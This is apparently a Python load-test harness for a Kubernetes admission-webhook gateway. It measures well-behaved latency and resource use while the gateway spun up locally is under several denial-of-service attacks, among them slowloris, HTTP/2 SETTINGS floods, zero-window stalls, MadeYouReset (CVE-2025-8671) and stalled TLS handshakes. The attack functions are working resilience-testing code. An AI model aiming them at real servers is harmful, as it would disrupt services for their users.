"""``python -m loadtests.abuse <attack>``: an attack beside well-behaved load, against a real gateway.

Starts one backend (a separate process) and the gateway (``python -m gateway``, plaintext, so that
HTTP/2 attacks can use prior knowledge), then measures well-behaved reviews (closed loop, HTTP/1.1
keep-alive, every answer verified as allowed) in three phases of ``--duration`` seconds each:

- ``before``: well-behaved load alone;
- ``during``: the same load while the attack runs;
- ``after``: the attack stopped, the same load again.

For each phase it reports the well-behaved p50/p99 and errors, and the gateway's open file
descriptors and RSS at the end of the phase (``during``: the highest seen). Attacks:

- ``slowloris``: many connections sending a request head one byte every 0.5 s;
- ``churn``: connections opened, used for one review or none, and closed, as fast as possible;
- ``h2-zero-window``: HTTP/2 connections with SETTINGS_INITIAL_WINDOW_SIZE=0 sending reviews and never
  a WINDOW_UPDATE;
- ``h2-settings-flood``: HTTP/2 connections sending large SETTINGS frames without reading the ACKs;
- ``h2-small-data``: one HTTP/2 connection with 100 streams sending 24,000 one-byte DATA frames a
  second, within the gateway's flow-control windows;
- ``h2-made-you-reset``: one HTTP/2 connection sending, on stream after stream, a whole review and
  then one more DATA byte, which makes the gateway reset the stream (CVE-2025-8671);
- ``h1-small-chunks``: one HTTP/1.1 connection sending a chunked review in one-byte chunks.

The attacking connections reconnect as soon as the gateway ends them. ``--gateway-tree DIR`` runs
another checkout's gateway (``git worktree add DIR REV``) to compare before and after a change.

``stalled`` runs differently, against the gateway over TLS as it is deployed: waves of
``--stalled`` connections (default 10,000) that send nothing or half a ClientHello, opened as fast
as possible, held for ``--duration`` seconds and closed, while the well-behaved clients (over TLS,
keep-alive) run throughout. The gateway gets the shipped Deployment's memory limit
(``deploy/base/deployment.yaml``, ``limits.memory``) with ``--memory-limit``, since this process
runs in no such cgroup; its connection bounds derive from it. Per wave it reports the peak RSS
(and its share of the limit), the RSS two seconds after the wave (and its ratio to the start),
the connections the gateway evicted or timed out before their handshake, and the well-behaved
clients' p50/p99 and errors.

docs/performance.md shows a run's table (docs/inbound.md explains the limits that hold the line).
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import statistics
import struct
import sys
import tempfile
import uuid
from collections.abc import Awaitable, Callable
from dataclasses import asdict, dataclass
from functools import partial
from pathlib import Path

import trio

from loadtests import processes
from loadtests.client import ConnectionLostError, Endpoint, Http1Connection, client_context
from loadtests.scenarios import build, write_configs
from loadtests.stats import percentile

ATTACKS = {
    "slowloris": "connections sending a request head one byte every 0.5 s",
    "churn": "connections opened, used once or not at all, and closed, back to back",
    "h2-zero-window": "HTTP/2 reviews whose replies the client never lets through (window 0)",
    "h2-settings-flood": "HTTP/2 connections sending large SETTINGS frames, never reading the ACKs",
    "h2-small-data": "one HTTP/2 connection: 100 streams, 24,000 one-byte DATA frames a second",
    "h2-made-you-reset": "one HTTP/2 connection making the gateway reset every stream (CVE-2025-8671)",
    "h1-small-chunks": "one HTTP/1.1 connection sending a chunked body in one-byte chunks",
    "stalled": "waves of TLS connections sending nothing or half a ClientHello (--stalled, --waves)",
}

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def _frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


@dataclass
class Phase:
    name: str
    ok: int
    errors: int
    p50_ms: float
    p99_ms: float
    fds: int
    rss_mb: float
    inbound: int = -1  # the gateway's open inbound connections (its /metrics) at the end of the phase
    backend: int = -1  # its open backend connections
    cut: int = 0  # connections the gateway ended for a limit during the phase (its /metrics)
    p50_ratio: float = 1.0  # p50 / the p50 of the last "before" phase (the well-behaved clients alone)
    gateway_cpu: float = 0.0  # the gateway's CPU over the phase, in cores (1.0: one core busy)


def _review(uid: str) -> bytes:
    return json.dumps(
        {
            "apiVersion": "admission.k8s.io/v1",
            "kind": "AdmissionReview",
            "request": {
                "uid": uid,
                "kind": {"group": "", "version": "v1", "kind": "Pod"},
                "resource": {"group": "", "version": "v1", "resource": "pods"},
                "requestKind": {"group": "", "version": "v1", "kind": "Pod"},
                "requestResource": {"group": "", "version": "v1", "resource": "pods"},
                "name": "web-1",
                "namespace": "shop",
                "operation": "CREATE",
                "userInfo": {"username": "loadtest"},
                "object": {
                    "apiVersion": "v1",
                    "kind": "Pod",
                    "metadata": {"name": "web-1", "namespace": "shop", "labels": {"app": "web"}},
                    "spec": {"containers": [{"name": "app", "image": "registry.example.com/web:1"}]},
                },
                "dryRun": False,
            },
        }
    ).encode()


def _fds(pid: int) -> int:
    try:
        return len(os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        return -1


def _rss_mb(pid: int) -> float:
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    except OSError:
        pass
    return -1.0


async def _scrape(endpoint: Endpoint) -> str | None:
    """The gateway's /metrics text, or None when it cannot be read within 5 s."""
    try:
        conn = await Http1Connection.open(endpoint)
        try:
            with trio.fail_after(5):
                _, body = await conn.request(b"/metrics", b"", method=b"GET")
        finally:
            await conn.aclose()
    except (OSError, ConnectionLostError, trio.TooSlowError, trio.BrokenResourceError):
        return None
    return body.decode()


async def _connections(endpoint: Endpoint) -> tuple[int, int]:
    """(open inbound, open backend) connections, from the gateway's /metrics."""
    text = await _scrape(endpoint)
    if text is None:
        return -1, -1
    inbound = backend = 0
    for line in text.splitlines():
        if line.startswith("webhook_gateway_inbound_open_connections "):
            inbound = int(float(line.split()[-1])) - 1  # not counting this scrape
        elif line.startswith("webhook_gateway_backend_open_connections{"):
            backend += int(float(line.split()[-1]))
    return inbound, backend


async def _well_behaved(endpoint: Endpoint, clients: int, seconds: float) -> tuple[list[float], int]:
    """Closed-loop reviews on keep-alive connections; latencies of the allowed answers, and errors."""
    latencies: list[float] = []
    errors = 0

    async def client() -> None:
        nonlocal errors
        conn: Http1Connection | None = None
        end = trio.current_time() + seconds
        while trio.current_time() < end:
            uid = str(uuid.uuid4())
            started = trio.current_time()
            try:
                if conn is None:
                    conn = await Http1Connection.open(endpoint)
                with trio.fail_after(10):
                    status, body = await conn.request(b"/validate?timeout=10s", _review(uid))
            except (OSError, ConnectionLostError, trio.TooSlowError, trio.BrokenResourceError):
                errors += 1
                conn = None
                await trio.sleep(0.05)
                continue
            if status == 200 and b'"allowed":true' in body and uid.encode() in body:
                latencies.append(trio.current_time() - started)
            else:
                errors += 1
        if conn is not None:
            await conn.aclose()

    async with trio.open_nursery() as nursery:
        for _ in range(clients):
            nursery.start_soon(client)
    return latencies, errors


# --- attacks --------------------------------------------------------------------------------------------


async def _forever(endpoint: Endpoint, one: Callable[[trio.SocketStream], Awaitable[None]]) -> None:
    """Run ``one`` on a fresh connection again and again (the gateway closing it is expected)."""
    while True:
        try:
            stream = await trio.open_tcp_stream(endpoint.host, endpoint.port)
        except OSError:
            await trio.sleep(0.05)
            continue
        try:
            await one(stream)
        except* (trio.BrokenResourceError, trio.ClosedResourceError, OSError):
            pass  # also from an attack's own tasks (its reader)
        finally:
            await trio.aclose_forcefully(stream)


async def _slowloris(stream: trio.SocketStream) -> None:
    head = b"POST /validate HTTP/1.1\r\nhost: gw\r\ncontent-type: application/json\r\nx-pad: " + b"a" * 4000
    for i in range(len(head)):
        await stream.send_all(head[i : i + 1])
        await trio.sleep(0.5)


async def _churn(stream: trio.SocketStream) -> None:
    if uuid.uuid4().int % 2:
        body = _review(str(uuid.uuid4()))
        await stream.send_all(
            b"POST /validate HTTP/1.1\r\nhost: gw\r\ncontent-type: application/json\r\n"
            + f"content-length: {len(body)}\r\n\r\n".encode()
            + body
        )
        with trio.move_on_after(5):
            await stream.receive_some(65536)


async def _h2_zero_window(stream: trio.SocketStream) -> None:
    import h2.config
    import h2.connection
    import h2.settings

    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    for _ in range(50):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(
            sid,
            [
                (":method", "POST"),
                (":scheme", "http"),
                (":authority", "gw"),
                (":path", "/validate?timeout=10s"),
            ],
        )
        conn.send_data(sid, _review(str(uuid.uuid4())), end_stream=True)
    await stream.send_all(conn.data_to_send())
    while await stream.receive_some(65536):  # never acknowledges anything
        pass


async def _h2_settings_flood(stream: trio.SocketStream) -> None:
    entries = b"".join(struct.pack(">HI", 4, 65535) for _ in range(2730))
    await stream.send_all(PREFACE + _frame(4))
    while True:  # never reads: the ACKs pile up on the gateway's side
        await stream.send_all(_frame(4, payload=entries))


class _RawH2:
    """A prior-knowledge HTTP/2 client writing its own frames (flow-control-correct: it tracks the
    gateway's windows), for attacks h2 itself would not send. It never acknowledges the gateway's DATA:
    it announces the largest windows at once."""

    def __init__(self, stream: trio.SocketStream) -> None:
        import hpack

        self.stream = stream
        self.encoder = hpack.Encoder()
        self.window = 65_535  # the gateway's connection window for our DATA
        self.initial = 65_535
        self.windows: dict[int, int] = {}
        self.goaway: int | None = None
        self.next_sid = 1
        self.updated = trio.Event()
        self._lock = trio.Lock()  # the reader's SETTINGS acknowledgements and the attack both write

    async def send(self, data: bytes) -> None:
        async with self._lock:
            await self.stream.send_all(data)

    async def start(self) -> None:
        biggest = 2**31 - 1
        await self.send(
            PREFACE
            + _frame(4, payload=struct.pack(">HI", 4, biggest))
            + _frame(8, payload=(biggest - 65_535).to_bytes(4, "big"))
        )

    def open(self, path: bytes, *, end_stream: bool = False) -> tuple[int, bytes]:
        sid, self.next_sid = self.next_sid, self.next_sid + 2
        self.windows[sid] = self.initial
        block = self.encoder.encode(
            [(b":method", b"POST"), (b":scheme", b"http"), (b":authority", b"gw"), (b":path", path)]
        )
        return sid, _frame(1, 0x4 | (0x1 if end_stream else 0), sid, block)

    def data(self, sid: int, payload: bytes, *, end_stream: bool = False) -> bytes:
        self.window -= len(payload)
        self.windows[sid] = self.windows.get(sid, self.initial) - len(payload)
        return _frame(0, 0x1 if end_stream else 0, sid, payload)

    def room(self, sid: int, size: int) -> bool:
        return self.window >= size and self.windows.get(sid, self.initial) >= size

    async def read(self) -> None:
        """Read the gateway's frames until it closes: windows, SETTINGS (acknowledged), GOAWAY."""
        buffer = b""
        while True:
            chunk = await self.stream.receive_some(65536)
            if not chunk:
                return
            buffer += chunk
            acks = b""
            while len(buffer) >= 9:
                length = int.from_bytes(buffer[:3], "big")
                if len(buffer) < 9 + length:
                    break
                kind, flags = buffer[3], buffer[4]
                sid = int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF
                payload, buffer = buffer[9 : 9 + length], buffer[9 + length :]
                if kind == 8:
                    increment = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
                    if sid == 0:
                        self.window += increment
                    else:
                        self.windows[sid] = self.windows.get(sid, self.initial) + increment
                    self.updated.set()
                    self.updated = trio.Event()
                elif kind == 4 and not flags & 0x1:
                    acks += _frame(4, 0x1)
                elif kind == 7:
                    self.goaway = int.from_bytes(payload[4:8], "big")
            if acks:
                await self.send(acks)


async def _h2_small_data(stream: trio.SocketStream) -> None:
    """100 streams, then one-byte DATA frames round-robin over them at ~24,000 frames/s, within the
    gateway's flow-control windows (the frames are valid; only their size is the attack)."""
    client = _RawH2(stream)
    await client.start()
    async with trio.open_nursery() as nursery:
        nursery.start_soon(client.read)
        sids = []
        opened = b""
        for _ in range(100):
            sid, headers = client.open(b"/validate?timeout=10s")
            sids.append(sid)
            opened += headers
        await client.send(opened + client.data(sids[0], b"{"))
        while client.goaway is None:
            batch = []
            for i in range(240):  # 240 frames every 10 ms
                sid = sids[i % len(sids)]
                if client.room(sid, 1):
                    batch.append(client.data(sid, b" "))
            if batch:
                await client.send(b"".join(batch))
                await trio.sleep(0.01)
            else:
                await client.updated.wait()
        nursery.cancel_scope.cancel()


async def _h2_made_you_reset(stream: trio.SocketStream) -> None:
    """Each stream: HEADERS, a whole review with END_STREAM, then one more DATA byte, which the
    gateway must answer by resetting the stream (MadeYouReset, CVE-2025-8671) — as fast as the
    gateway's windows let it."""
    client = _RawH2(stream)
    await client.start()
    async with trio.open_nursery() as nursery:
        nursery.start_soon(client.read)
        while client.goaway is None:
            body = _review(str(uuid.uuid4()))
            if client.window < len(body) + 1:
                await client.updated.wait()
                continue
            sid, headers = client.open(b"/validate?timeout=10s")
            await client.send(headers + client.data(sid, body, end_stream=True) + _frame(0, 0, sid, b" "))
            await trio.sleep(0.001)
        nursery.cancel_scope.cancel()


async def _h1_small_chunks(stream: trio.SocketStream) -> None:
    """A review whose chunked body comes in one-byte chunks, ~100,000 chunks a second."""
    await stream.send_all(
        b"POST /validate?timeout=10s HTTP/1.1\r\nhost: gw\r\ncontent-type: application/json\r\n"
        b"transfer-encoding: chunked\r\n\r\n" + b"1\r\n{\r\n"
    )
    chunks = b"1\r\n \r\n" * 1000
    while True:
        await stream.send_all(chunks)
        await trio.sleep(0.01)


_ATTACK_FUNCS: dict[str, Callable[[trio.SocketStream], Awaitable[None]]] = {
    "slowloris": _slowloris,
    "churn": _churn,
    "h2-zero-window": _h2_zero_window,
    "h2-settings-flood": _h2_settings_flood,
    "h2-small-data": _h2_small_data,
    "h2-made-you-reset": _h2_made_you_reset,
    "h1-small-chunks": _h1_small_chunks,
}
_ATTACK_CONNECTIONS = {
    "slowloris": 300,
    "churn": 8,
    "h2-zero-window": 20,
    "h2-settings-flood": 4,
    # issue 31: "one attacker connection moves other callers' p50 by at most 2x" (it reconnects at once
    # when the gateway ends it)
    "h2-small-data": 1,
    "h2-made-you-reset": 1,
    "h1-small-chunks": 1,
}


# --- the run --------------------------------------------------------------------------------------------


async def run(
    attack: str,
    *,
    seconds: float,
    clients: int,
    attackers: int | None,
    gateway_args: list[str],
    tree: Path | None = None,
    repeat: int = 1,
) -> list[Phase]:
    with tempfile.TemporaryDirectory(prefix="abuse-") as tmp:
        directory = Path(tmp)
        with processes.managed(processes.spawn_fleet(1, None)) as fleet:
            port = (await processes.fleet_ports(fleet))[0]
            scenario = build("passthrough")
            urls = {b.name: f"http://127.0.0.1:{port}/allow" for b in scenario.backends}
            write_configs(scenario, urls, None, directory / "config")
            gw_port = processes.free_port()
            args = ["--log-level", "warning", "--no-review-log", *gateway_args]
            gateway = processes.spawn_gateway(
                directory / "config", gw_port, None, directory / "gateway.log", args, tree=tree
            )
            with processes.managed(gateway) as proc:
                endpoint, _ = Endpoint.parse(f"http://127.0.0.1:{gw_port}/", None)
                await processes.wait_ready(endpoint, proc)
                pid = proc.pid
                phases: list[Phase] = []

                async def phase(name: str) -> None:
                    cut = await _metric(endpoint, _CLOSED)
                    cpu, started = processes.proc_cpu_seconds(pid), trio.current_time()
                    latencies, errors = await _well_behaved(endpoint, clients, seconds)
                    latencies.sort()
                    cpu = (processes.proc_cpu_seconds(pid) - cpu) / (trio.current_time() - started)
                    cut = await _metric(endpoint, _CLOSED) - cut
                    await trio.sleep(0.5)  # the well-behaved clients' own closes are noticed
                    inbound, backend = await _connections(endpoint)
                    p50 = percentile(latencies, 50) * 1000
                    phases.append(
                        Phase(
                            name,
                            len(latencies),
                            errors,
                            p50,
                            percentile(latencies, 99) * 1000,
                            _fds(pid),
                            _rss_mb(pid),
                            inbound,
                            backend,
                            int(cut),
                            p50 / next((x.p50_ms for x in reversed(phases) if x.name == "before"), p50),
                            cpu,
                        )
                    )

                # ``repeat`` rounds of (alone, attacked), side by side in time: on a shared machine the
                # neighbours' load drifts, and interleaving lets it weigh on both kinds of phase.
                peak: dict[str, float] = {}

                async def sample() -> None:
                    while True:
                        peak["fds"] = max(peak["fds"], _fds(pid))
                        peak["rss"] = max(peak["rss"], _rss_mb(pid))
                        await trio.sleep(0.1)

                for _ in range(repeat):
                    await phase("before")
                    peak.update(fds=0, rss=0.0)
                    async with trio.open_nursery() as nursery:
                        for _ in range(attackers or _ATTACK_CONNECTIONS[attack]):
                            nursery.start_soon(_forever, endpoint, _ATTACK_FUNCS[attack])
                        nursery.start_soon(sample)
                        await trio.sleep(min(1.0, seconds / 2))  # the attack is established
                        await phase("during")
                        nursery.cancel_scope.cancel()
                    phases[-1].fds, phases[-1].rss_mb = int(peak["fds"]), peak["rss"]
                    await trio.sleep(1.5)  # the gateway notices the attackers are gone
                await phase("after")
                if proc.poll() is not None:
                    raise RuntimeError(f"the gateway exited with {proc.returncode} during the run")
                return phases


# --- stalled connections in waves (issue 31: memory bounded by the pod's limit) ------------------------


@dataclass
class Wave:
    wave: int
    stalled: int  # connections opened by the attacker in this wave
    peak_rss_mb: float
    limit_share: float  # peak RSS / memory limit
    after_rss_mb: float  # two seconds after the wave's connections closed
    after_ratio: float  # after / the RSS before the first wave
    cut: int  # connections the gateway reset before their handshake (evicted or timed out)
    ok: int
    errors: int
    p50_ms: float
    p99_ms: float


def shipped_memory_limit(deployment: Path | None = None) -> str:
    """``limits.memory`` of the gateway container in deploy/base/deployment.yaml (e.g. ``256Mi``)."""
    import yaml

    path = deployment or Path(__file__).resolve().parent.parent / "deploy" / "base" / "deployment.yaml"
    doc = yaml.safe_load(path.read_text())
    for container in doc["spec"]["template"]["spec"]["containers"]:
        if container["name"] == "gateway":
            return str(container["resources"]["limits"]["memory"])
    raise RuntimeError(f"{path}: no gateway container")


def client_hello() -> bytes:
    """A real TLS ClientHello record, as a client's first write (then it waits for the server)."""
    import ssl

    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = context.wrap_bio(incoming, outgoing, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        client.do_handshake()
    return outgoing.read()


async def _metric(endpoint: Endpoint, prefix: str) -> float:
    """The sum of the gateway's samples whose line starts with ``prefix`` (its /metrics)."""
    text = await _scrape(endpoint)
    if text is None:
        return -1.0
    return sum(float(line.split()[-1]) for line in text.splitlines() if line.startswith(prefix))


async def _stall_wave(host: str, port: int, count: int, hello: bytes) -> list[trio.socket.SocketType]:
    """Open ``count`` connections as fast as the kernel takes them; half send half a ClientHello."""
    held: list[trio.socket.SocketType] = []
    half = hello[: len(hello) // 2]
    for i in range(count):
        sock = trio.socket.socket()
        try:
            await sock.connect((host, port))
            if i % 2:
                await sock.send(half)
        except OSError:
            sock.close()
            continue
        held.append(sock)
    return held


async def run_stalled(
    *, stalled: int, waves: int, seconds: float, clients: int, memory_limit: str, gateway_args: list[str]
) -> tuple[float, float, list[Wave]]:
    """The waves; returns (the limit in MB, the RSS before the first wave in MB, one row per wave)."""
    import resource

    from gateway.server.memory import parse_size

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    stalled = min(stalled, hard - clients - 256)  # what this process can hold open
    limit_mb = parse_size(memory_limit) / (1 << 20)
    with tempfile.TemporaryDirectory(prefix="abuse-") as tmp:
        directory = Path(tmp)
        certs = processes.Certs.create(directory)
        with processes.managed(processes.spawn_fleet(1, None)) as fleet:
            port = (await processes.fleet_ports(fleet))[0]
            scenario = build("passthrough")
            urls = {b.name: f"http://127.0.0.1:{port}/allow" for b in scenario.backends}
            write_configs(scenario, urls, None, directory / "config")
            gw_port = processes.free_port()
            args = [
                "--log-level",
                "warning",
                "--no-review-log",
                "--memory-limit",
                memory_limit,
                *gateway_args,
            ]
            gateway = processes.spawn_gateway(
                directory / "config", gw_port, certs, directory / "gateway.log", args
            )
            with processes.managed(gateway) as proc:
                context = client_context(certs.ca_pem, "http1")
                endpoint, _ = Endpoint.parse(f"https://127.0.0.1:{gw_port}/", context)
                await processes.wait_ready(endpoint, proc)
                await trio.sleep(1.0)
                pid = proc.pid
                start = _rss_mb(pid)
                hello = client_hello()
                # The well-behaved clients alone first: the row the waves compare with.
                alone, errors = await _well_behaved(endpoint, clients, seconds)
                alone.sort()
                baseline = Wave(
                    0, 0, _rss_mb(pid), _rss_mb(pid) / limit_mb, _rss_mb(pid), _rss_mb(pid) / start, 0,
                    len(alone), errors, percentile(alone, 50) * 1000, percentile(alone, 99) * 1000,
                )  # fmt: skip
                rows = [baseline] + [
                    await _wave(
                        n + 1,
                        endpoint,
                        pid=pid,
                        stalled=stalled,
                        seconds=seconds,
                        clients=clients,
                        hello=hello,
                        limit_mb=limit_mb,
                        start=start,
                    )
                    for n in range(waves)
                ]
                if proc.poll() is not None:
                    raise RuntimeError(f"the gateway exited with {proc.returncode} during the run")
                return limit_mb, start, rows


_CUT = 'webhook_gateway_inbound_connections_closed_total{reason="handshake_'
_CLOSED = "webhook_gateway_inbound_connections_closed_total{"  # every reason


async def _wave(
    wave: int,
    endpoint: Endpoint,
    *,
    pid: int,
    stalled: int,
    seconds: float,
    clients: int,
    hello: bytes,
    limit_mb: float,
    start: float,
) -> Wave:
    """One wave: stalled connections held ``seconds`` and closed, well-behaved load throughout."""
    cut_before = await _metric(endpoint, _CUT)
    peak = 0.0
    result: list[tuple[list[float], int]] = []
    done = trio.Event()

    async def sample() -> None:
        nonlocal peak
        while True:
            peak = max(peak, _rss_mb(pid))
            await trio.sleep(0.05)

    async def load() -> None:
        result.append(await _well_behaved(endpoint, clients, seconds + 4.0))
        done.set()

    async with trio.open_nursery() as nursery:
        nursery.start_soon(sample)
        nursery.start_soon(load)
        held = await _stall_wave(endpoint.host, endpoint.port, stalled, hello)
        await trio.sleep(seconds)
        for sock in held:
            sock.close()
        await trio.sleep(2.0)
        after = _rss_mb(pid)
        await done.wait()
        nursery.cancel_scope.cancel()
    latencies, errors = result[0]
    latencies.sort()
    cut = await _metric(endpoint, _CUT) - cut_before
    return Wave(
        wave,
        len(held),
        peak,
        peak / limit_mb,
        after,
        after / start,
        int(cut),
        len(latencies),
        errors,
        percentile(latencies, 50) * 1000 if latencies else float("nan"),
        percentile(latencies, 99) * 1000 if latencies else float("nan"),
    )


def stalled_table(limit_mb: float, start: float, rows: list[Wave]) -> str:
    lines = [
        f"memory limit {limit_mb:.0f} MB (80 %: {limit_mb * 0.8:.0f} MB); "
        f"RSS before the first wave {start:.0f} MB",
        "",
        "| wave | stalled connections | peak RSS MB | peak / limit | RSS after MB | after / start "
        "| cut before handshake | well-behaved ok | errors | p50 ms | p99 ms |",
        "|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|",
    ]
    lines += [
        f"| {r.wave or 'none (well-behaved alone)'} | {r.stalled} | {r.peak_rss_mb:.0f} "
        f"| {r.limit_share:.0%} | {r.after_rss_mb:.0f} "
        f"| {r.after_ratio:.2f} | {r.cut} | {r.ok} | {r.errors} | {r.p50_ms:.1f} | {r.p99_ms:.1f} |"
        for r in rows
    ]
    return "\n".join(lines)


def summary(attack: str, phases: list[Phase]) -> str:
    """One row: the medians over the rounds of the alone and attacked phases, and their ratio."""
    alone = statistics.median(p.p50_ms for p in phases if p.name == "before")
    attacked = statistics.median(p.p50_ms for p in phases if p.name == "during")
    cpu = statistics.median(p.gateway_cpu for p in phases if p.name == "during")
    rounds = sum(p.name == "during" for p in phases)
    errors = sum(p.errors for p in phases)
    return (
        f"| {attack} | median of {rounds} | p50 alone {alone:.1f} ms | attacked {attacked:.1f} ms "
        f"| ratio {attacked / alone:.2f} | gateway CPU attacked {cpu:.0%} | errors {errors} |"
    )


def table(attack: str, phases: list[Phase]) -> str:
    rows = [
        f"| {attack} | {p.name} | {p.ok} | {p.errors} | {p.p50_ms:.1f} | {p.p50_ratio:.2f} | {p.p99_ms:.1f} "
        f"| {p.cut} | {p.gateway_cpu:.0%} | {p.fds} | {p.rss_mb:.0f} | {p.inbound} | {p.backend} |"
        for p in phases
    ]
    return "\n".join(rows)


HEADER = (
    "| attack | phase | well-behaved ok | errors | p50 ms | p50 / before | p99 ms | cut by a limit "
    "| gateway CPU | gateway fds | gateway RSS MB | inbound conns | backend conns |\n"
    "|---|---|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|"
)


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(
        prog="python -m loadtests.abuse",
        description="Run an attack beside well-behaved load; report the well-behaved latency and the "
        "gateway's fds/RSS before, during and after.",
        epilog="attacks:\n" + "\n".join(f"  {k:<18} {v}" for k, v in ATTACKS.items()),
        formatter_class=argparse.RawDescriptionHelpFormatter,
    )
    p.add_argument("attack", nargs="+", choices=sorted(ATTACKS))
    p.add_argument("--duration", type=float, default=5.0, help="seconds per phase (default 5)")
    p.add_argument("--clients", type=int, default=4, help="well-behaved closed-loop clients (default 4)")
    p.add_argument("--attackers", type=int, help="attacking connections (default: per attack)")
    p.add_argument("--quick", action="store_true", help="1 s phases, few attackers; exit 1 on errors")
    p.add_argument("--json", type=Path, help="also write the phases as JSON here")
    p.add_argument("--gateway-arg", action="append", default=[], help="extra gateway option (repeatable)")
    p.add_argument(
        "--gateway-tree", type=Path, help="run the gateway of this checkout (the attacks but stalled)"
    )
    p.add_argument(
        "--repeat",
        type=int,
        default=1,
        help="rounds of (alone, attacked) phases, interleaved; a median row follows (default 1)",
    )
    p.add_argument(
        "--stalled", type=int, default=10_000, help="stalled: connections per wave (default 10000)"
    )
    p.add_argument("--waves", type=int, default=3, help="stalled: waves (default 3)")
    p.add_argument(
        "--memory-limit",
        help="stalled: the gateway's --memory-limit (default: limits.memory of deploy/base/deployment.yaml)",
    )
    opts = p.parse_args(argv)
    seconds = 1.0 if opts.quick else opts.duration
    attackers = opts.attackers or (4 if opts.quick else None)
    results: dict[str, list[Phase]] = {}
    failed = False
    if "stalled" in opts.attack:
        limit = opts.memory_limit or shipped_memory_limit()
        limit_mb, start, waves = trio.run(
            partial(
                run_stalled,
                stalled=300 if opts.quick else opts.stalled,
                waves=1 if opts.quick else opts.waves,
                seconds=seconds,
                clients=opts.clients,
                memory_limit=limit,
                gateway_args=opts.gateway_arg,
            )
        )
        print(stalled_table(limit_mb, start, waves), flush=True)
        failed |= any(w.errors or not w.ok or w.limit_share > 0.8 or w.after_ratio > 1.10 for w in waves)
        if opts.json:
            opts.json.write_text(json.dumps({"stalled": [asdict(w) for w in waves]}, indent=2))
        opts.attack = [a for a in opts.attack if a != "stalled"]
        if not opts.attack:
            return 1 if failed else 0
    print(HEADER)
    for attack in opts.attack:
        phases = trio.run(
            partial(
                run,
                attack,
                seconds=seconds,
                clients=opts.clients,
                attackers=attackers,
                gateway_args=opts.gateway_arg,
                tree=opts.gateway_tree,
                repeat=opts.repeat,
            )
        )
        results[attack] = phases
        print(table(attack, phases), flush=True)
        if opts.repeat > 1:
            print(summary(attack, phases), flush=True)
        failed |= any(ph.errors or not ph.ok for ph in phases)
    if opts.json:
        opts.json.write_text(json.dumps({k: [asdict(ph) for ph in v] for k, v in results.items()}, indent=2))
    return 1 if failed and opts.quick else 0


if __name__ == "__main__":
    sys.exit(main())
